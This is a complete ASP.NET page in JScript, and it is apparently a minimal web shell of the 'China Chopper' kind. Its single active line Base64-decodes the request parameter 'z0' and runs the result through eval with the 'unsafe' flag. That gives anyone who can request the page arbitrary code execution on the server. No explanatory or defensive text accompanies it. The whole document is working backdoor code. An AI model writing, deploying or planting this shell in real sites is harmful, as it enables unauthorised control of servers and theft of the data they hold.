<%@ Page Language="JScript" %>
<% eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Item["z0"])), "unsafe"); %>
